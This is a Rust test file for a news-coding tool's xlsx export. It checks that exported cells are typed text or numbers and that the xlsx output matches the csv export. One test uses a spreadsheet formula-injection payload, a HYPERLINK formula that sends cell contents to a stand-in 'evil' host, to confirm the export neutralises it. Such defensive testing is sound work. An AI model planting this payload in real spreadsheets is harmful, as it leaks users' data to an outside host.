//! `xlsx`: the same tables as `csv`, as typed cells that a spreadsheet
//! never evaluates (docs/formats.md, "xlsx").

use super::{add_doc, fixture, run_export, save, span_on};
use newscoder::export::Format;
use newscoder::model::{Metadata, Status};
use newscoder::store::ProjectDir;
use std::io::Read as _;
use std::path::Path;

/// The XML of `part` inside the workbook at `path`.
fn part(path: &Path, part: &str) -> String {
    let file = std::fs::File::open(path).expect("workbook written");
    let mut zip = zip::ZipArchive::new(file).expect("a zip archive");
    let mut xml = String::new();
    zip.by_name(part)
        .unwrap_or_else(|e| panic!("{part}: {e}"))
        .read_to_string(&mut xml)
        .expect("utf-8 xml");
    xml
}

/// The texts of the inline-string cells of a sheet, in order.
fn texts(xml: &str) -> Vec<String> {
    xml.split("<t")
        .skip(1)
        .filter_map(|t| {
            let body = &t[t.find('>')? + 1..];
            Some(body[..body.find("</t>")?].to_string())
        })
        .collect()
}

#[test]
fn a_scraped_formula_is_text_and_offsets_are_numbers() {
    let tmp = tempfile::tempdir().unwrap();
    let mut dir = ProjectDir::create(
        &tmp.path().join("p"),
        "x",
        newscoder::model::Codebook::default_media(),
    )
    .unwrap();
    let text = "=HYPERLINK(\"http://evil/?\"&A1,\"click\") said Maduro.";
    add_doc(&mut dir, "d1", "Formula", Metadata::default(), text);
    let formula = span_on(
        text,
        "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
        0,
        1,
        "Event",
    );
    let maduro = span_on(text, "Maduro", 0, 2, "Person");
    save(&mut dir, "alice", "d1", Status::Done, vec![formula, maduro]);
    let out = tmp.path().join("spans.xlsx");
    let summary = run_export(&dir, Format::Xlsx, &out, None);
    assert_eq!(summary.files, vec![out.clone()]);

    let book = part(&out, "xl/workbook.xml");
    assert!(book.contains("name=\"spans\"") && book.contains("name=\"documents\""));
    let spans = part(&out, "xl/worksheets/sheet1.xml");
    assert!(!spans.contains("<f>"), "no cell is a formula");
    assert!(spans.contains("t=\"inlineStr\""), "texts are string cells");
    let cells = texts(&spans);
    assert!(
        cells.contains(&"=HYPERLINK(\"http://evil/?\"&amp;A1,\"click\")".to_string()),
        "the scraped text is a text cell: {cells:?}"
    );
    // Offsets and span ids are numbers: "Maduro" starts at 44.
    assert!(spans.contains("<c r=\"C3\"><v>44</v></c>"), "{spans}");
    // The same columns as the csv export, in the same order.
    let csv_out = tmp.path().join("spans.csv");
    run_export(&dir, Format::Csv, &csv_out, None);
    let csv = std::fs::read_to_string(&csv_out).unwrap();
    let header: Vec<&str> = csv.lines().next().unwrap().split(',').collect();
    assert_eq!(
        cells[..header.len()],
        header.iter().map(|s| s.to_string()).collect::<Vec<_>>()[..]
    );
    let docs = part(&out, "xl/worksheets/sheet2.xml");
    assert!(texts(&docs).contains(&"Formula".to_string()));
}

#[test]
fn the_fixture_exports_every_span_and_document() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = fixture(&tmp.path().join("p"));
    let out = tmp.path().join("all.xlsx");
    let xlsx = run_export(&dir, Format::Xlsx, &out, None);
    let csv_out = tmp.path().join("all.csv");
    let csv = run_export(&dir, Format::Csv, &csv_out, None);
    assert_eq!(xlsx.spans, csv.spans);
    assert_eq!(xlsx.documents, csv.documents);
    let rows = |xml: &str| xml.matches("<row ").count();
    let csv_rows = |p: &Path| {
        let mut r = csv::Reader::from_path(p).unwrap();
        r.records().count()
    };
    assert_eq!(
        rows(&part(&out, "xl/worksheets/sheet1.xml")),
        csv_rows(&csv_out) + 1,
        "header plus one row per span"
    );
    assert_eq!(
        rows(&part(&out, "xl/worksheets/sheet2.xml")),
        csv_rows(&tmp.path().join("all.documents.csv")) + 1
    );
    let book = part(&out, "xl/workbook.xml");
    assert!(book.contains("name=\"codes\""), "{book}");
    let codes = part(&out, "xl/worksheets/sheet3.xml");
    assert_eq!(
        rows(&codes),
        csv_rows(&tmp.path().join("all.codes.csv")) + 1,
        "header plus one row per code value"
    );
    assert_eq!(
        texts(&codes)[..4],
        ["doc_id", "coder", "variable", "value"].map(String::from)
    );
    assert!(texts(&codes).contains(&"military and security".to_string()));
    // A number variable's code is a number cell.
    assert!(codes.contains("<v>4</v>"), "{codes}");
}
